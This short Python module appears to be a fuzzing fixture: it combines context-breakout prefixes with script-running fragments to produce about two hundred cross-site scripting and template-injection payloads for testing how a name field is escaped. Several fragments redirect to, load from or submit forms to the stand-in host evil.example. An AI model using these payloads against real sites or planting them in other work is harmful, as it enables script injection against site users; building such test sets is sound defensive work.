"""Two hundred ways to put a script where a name belongs: what breaks out × what then runs."""

from typing import Final

_OUT: Final = ("", '">', "'>", "</script>", "</style>", "</title>", "-->", "</textarea>", "]]>", '" ', "' ", "{{'")
_RUN: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><style><img src onerror=alert(1)></style>",
    "<style>*{background:url(x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button>",
    "<object data=data:text/html,x></object>",
)
PAYLOADS: Final[tuple[str, ...]] = (
    *(out + run for out in _OUT for run in _RUN),
    'x" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "x' style='background:url(//evil.example)",
    "javascript:alert(1)",
    "\u2028alert(1)\u2029",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
ALL: Final = " ".join(PAYLOADS)
"""All of them in one field: none can hide behind another, since whatever breaks out first is seen."""
